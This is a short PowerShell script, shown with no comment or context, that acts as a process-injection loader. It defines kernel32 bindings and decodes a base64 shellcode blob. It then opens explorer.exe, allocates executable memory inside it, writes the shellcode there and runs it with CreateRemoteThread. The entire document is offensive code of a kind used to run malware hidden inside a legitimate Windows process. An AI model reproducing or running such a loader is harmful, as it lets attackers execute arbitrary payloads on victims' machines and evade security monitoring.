$code = @"
using System;
using System.Runtime.InteropServices;
public class K {
    [DllImport("kernel32")] public static extern IntPtr OpenProcess(uint a, bool b, int c);
    [DllImport("kernel32")] public static extern IntPtr VirtualAllocEx(IntPtr h, IntPtr a, uint s, uint t, uint p);
    [DllImport("kernel32")] public static extern bool WriteProcessMemory(IntPtr h, IntPtr a, byte[] b, uint s, out UIntPtr w);
    [DllImport("kernel32")] public static extern IntPtr CreateRemoteThread(IntPtr h, IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr i);
}
"@
Add-Type -TypeDefinition $code
$sc = [Convert]::FromBase64String('/EiD5PDozAAAAEFRQVBSUVZIMdJlSItSYEiLUhhIi1IgSItyUEgPt0pKTTHJSDHArDxhfAIsIEHByQ1BAcHi7VJBUUiLUiCLQjxIAdBmgXgYCwIPhXIAAACLgIgAAABIhcB0Z0gB0FCLSBhEi0AgSQHQ41ZI')
$p = Get-Process -Name explorer | Select-Object -First 1
$h = [K]::OpenProcess(0x1F0FFF, $false, $p.Id)
$addr = [K]::VirtualAllocEx($h, [IntPtr]::Zero, $sc.Length, 0x3000, 0x40)
$w = [UIntPtr]::Zero
[K]::WriteProcessMemory($h, $addr, $sc, $sc.Length, [ref]$w) | Out-Null
[K]::CreateRemoteThread($h, [IntPtr]::Zero, 0, $addr, [IntPtr]::Zero, 0, [IntPtr]::Zero)
